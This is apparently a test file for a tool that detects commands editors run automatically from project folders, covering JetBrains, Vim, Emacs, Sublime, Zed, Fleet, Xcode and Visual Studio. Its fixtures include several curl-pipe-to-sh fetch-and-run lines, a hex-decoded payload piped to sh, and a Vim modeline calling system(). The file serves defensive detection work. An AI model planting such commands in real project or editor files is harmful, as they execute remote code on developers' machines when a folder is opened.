import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { formatPlace } from "@doorward/core";
import { readFiles, surfacesOf, tellSettings, tellSurfaces } from "../surfaces.test-support.ts";

const project = (script: string) =>
  `// !$*UTF8*$!\n{\n\tobjects = {\n\t\tA1 /* Run */ = {\n\t\t\tisa = PBXShellScriptBuildPhase;\n\t\t\tshellPath = /bin/sh;\n\t\t\tshellScript = "${script}";\n\t\t};\n\t\tB1 = { buildSettings = { ENABLE_USER_SCRIPT_SANDBOXING = NO; PRODUCT_NAME = App; }; };\n\t};\n}\n`;

describe("JetBrains editors", () => {
  const configuration = `<component name="ProjectRunConfigurationManager">
  <configuration default="false" name="Set up" type="ShConfigurationType">
    <option name="SCRIPT_TEXT" value="curl -s https://a.example/x | sh" />
    <option name="INDEPENDENT_SCRIPT_PATH" value="true" />
  </configuration>
</component>`;

  it("reads a run configuration with the place of its script", () => {
    const [run] = surfacesOf("jetbrains", { ".idea/runConfigurations/Set_up.xml": configuration });
    assert.equal(run?.trigger, "manual");
    assert.deepEqual(
      run?.commands.map(({ text, at }) => `${text} ${formatPlace(at)}`),
      ["curl -s https://a.example/x | sh .idea/runConfigurations/Set_up.xml:3:39"],
    );
  });

  it("starts with the project what startup.xml lists", () => {
    const files = {
      ".idea/runConfigurations/Set_up.xml": configuration,
      ".idea/startup.xml": `<project version="4"><component name="ProjectStartupSharedConfiguration">
        <configurations><configuration name="Set up" type="ShConfigurationType" /></configurations></component></project>`,
    };
    assert.deepEqual(tellSurfaces("jetbrains", files), [
      'manual run-configuration "Set up" curl -s https://a.example/x | sh',
      'open-folder! startup-task "Set up" curl -s https://a.example/x | sh',
    ]);
  });

  it("reads ordinary npm and Gradle configurations as what they are", () => {
    const files = {
      ".run/dev.run.xml": `<component name="ProjectRunConfigurationManager"><configuration default="false" name="dev" type="js.build_tools.npm">
        <package-json value="$PROJECT_DIR$/package.json" /><command value="run" /><scripts><script value="dev" /></scripts></configuration></component>`,
    };
    assert.deepEqual(tellSurfaces("jetbrains", files), ['manual run-configuration "dev" npm run dev']);
  });

  it("starts a file watcher as files are saved", () => {
    const files = {
      ".idea/watcherTasks.xml": `<project><component name="ProjectTasksOptions"><TaskOptions isEnabled="true">
        <option name="program" value="$PROJECT_DIR$/tools/watch.sh" /><option name="arguments" value="-q" /><option name="name" value="W" />
        </TaskOptions></component></project>`,
      "tools/watch.sh": "#!/bin/sh\n",
    };
    assert.deepEqual(tellSurfaces("jetbrains", files), [
      'open-folder! file-watcher "W" tools/watch.sh -q ; tools/watch.sh',
    ]);
  });
});

describe("Vim and Emacs", () => {
  it("reads commands of a start file in the folder", () => {
    assert.deepEqual(
      tellSurfaces("vim", { ".nvim.lua": `vim.opt.tabstop = 2\nvim.fn.system("curl https://a.example/x | sh")\n` }),
      ['open-folder start-file ".nvim.lua" curl https://a.example/x | sh ; .nvim.lua'],
    );
    const [exrc] = surfacesOf("vim", { ".exrc": `set expandtab\nautocmd BufRead * silent !sh setup.sh\n` });
    assert.deepEqual(
      exrc?.commands.map(({ text, at }) => `${text} ${formatPlace(at)}`),
      ["sh setup.sh .exrc:2:27"],
    );
  });

  it("finds no command in indent settings", () => {
    assert.deepEqual(tellSurfaces("vim", { ".vimrc": `set tabstop=2\n" run !make by hand\nset expandtab!\n` }), [
      'open-folder start-file ".vimrc" .vimrc',
    ]);
  });

  it("tells a mode line with an expression, and none that only sets the indent", () => {
    const dangerous = { "README.md": "# Hello\n\n<!-- vim: set foldexpr=system('id') foldmethod=expr : -->\n" };
    assert.deepEqual(
      tellSettings("vim", dangerous),
      ["modeline = foldexpr=system('id') foldmethod=expr : -->"].map((line) =>
        line.replace("= foldexpr", "= set foldexpr"),
      ),
    );
    assert.deepEqual(tellSettings("vim", { "a.txt": "text\nvim: set ts=2 sw=2:\n" }), []);
  });

  it("reads evaluated folder variables of Emacs, and lets plain ones be", () => {
    const files = { ".dir-locals.el": `((nil . ((eval . (shell-command "curl https://a.example/x | sh")))))` };
    assert.deepEqual(tellSurfaces("emacs", files), [
      'open-folder folder-variables ".dir-locals.el" curl https://a.example/x | sh',
    ]);
    assert.deepEqual(tellSurfaces("emacs", { ".dir-locals.el": "((js-mode . ((js-indent-level . 2))))" }), []);
  });
});

describe("Sublime Text, Zed and Fleet", () => {
  it("reads build systems and language servers of a Sublime project", () => {
    const files = {
      "a.sublime-project": `{ "build_systems": [{ "name": "b", "cmd": ["sh", "b.sh"], "windows": { "shell_cmd": "b.bat" } }],
        "settings": { "LSP": { "x": { "command": ["node", "server.dict"] } } } }`,
    };
    assert.deepEqual(tellSurfaces("sublime", files), [
      'build build-system "b" sh b.sh ; b.bat',
      'open-folder! language-server "x" node server.dict',
    ]);
    assert.deepEqual(tellSurfaces("sublime", { "a.sublime-project": `{ "folders": [{ "path": "." }] }` }), []);
  });

  it("reads programs in the project settings of Zed, and its tasks", () => {
    const files = {
      ".zed/settings.json": `{ "tab_size": 2, "lsp": { "rust-analyzer": { "binary": { "path": "./tools/ra", "arguments": ["-x"] } } } }`,
      ".zed/tasks.json": `[{ "label": "t", "command": "npm", "args": ["test"] }]`,
      "tools/ra": "#!/bin/sh\n",
    };
    assert.deepEqual(tellSurfaces("zed", files), [
      'open-folder! setting-command "lsp.rust-analyzer.binary" ./tools/ra -x ; tools/ra',
      'manual task "t" npm test',
    ]);
  });

  it("reads run configurations of Fleet", () => {
    const files = {
      ".fleet/run.json": `{ "configurations": [{ "type": "command", "name": "r", "program": "node", "args": ["a.js"] }] }`,
    };
    assert.deepEqual(tellSurfaces("fleet", files), ['manual run-configuration "r" node a.js']);
  });
});

describe("Xcode", () => {
  it("reads shell scripts of build phases in the folder of the project", () => {
    const files = { "ios/App.xcodeproj/project.pbxproj": project("echo QUFB | xxd -p -r | sh\\n") };
    const [phase] = surfacesOf("xcode", files);
    assert.equal(phase?.commands[0]?.text, "echo QUFB | xxd -p -r | sh\n");
    assert.equal(phase?.commands[0]?.folder, "ios");
    assert.deepEqual(phase && formatPlace(phase.at), "ios/App.xcodeproj/project.pbxproj:7:19");
    assert.deepEqual(tellSettings("xcode", files), ["ENABLE_USER_SCRIPT_SANDBOXING = NO"]);
  });

  it("reads a project that is written as XML", () => {
    const files = {
      "App.xcodeproj/project.pbxproj": `<?xml version="1.0"?><plist><dict><key>shellScript</key><string>sh x.sh</string></dict></plist>`,
      "x.sh": "",
    };
    assert.deepEqual(tellSurfaces("xcode", files), ['build build-phase "shellScript" sh x.sh']);
  });

  it("reads actions of a scheme by what they stand before", () => {
    const scheme = `<Scheme><TestAction><PreActions><ExecutionAction><ActionContent title="Prepare" scriptText="curl https://a.example/x"/></ExecutionAction></PreActions></TestAction></Scheme>`;
    assert.deepEqual(tellSurfaces("xcode", { "A.xcodeproj/xcshareddata/xcschemes/A.xcscheme": scheme }), [
      'test scheme-action "Prepare" curl https://a.example/x',
    ]);
  });
});

describe("Visual Studio", () => {
  it("tells saved state as not judged", () => {
    assert.deepEqual(readFiles({ ".vs/App/v17/.suo": { base64: "0M8R4A==" } }).unjudged, [
      { path: ".vs/App/v17/.suo", reason: "saved state of Visual Studio, which is not read" },
    ]);
  });

  it("reads tasks of a folder and profiles of a project", () => {
    const files = {
      ".vs/tasks.vs.json": `{ "tasks": [{ "taskLabel": "t", "command": "cmd", "args": ["/c", "x.bat"] }] }`,
      "Properties/launchSettings.json": `{ "profiles": { "App": { "commandName": "Project" }, "X": { "executablePath": "x.exe" } } }`,
    };
    assert.deepEqual(tellSurfaces("visual-studio", files), [
      'manual task "t" cmd /c x.bat',
      'start launch-configuration "X" x.exe',
    ]);
  });
});
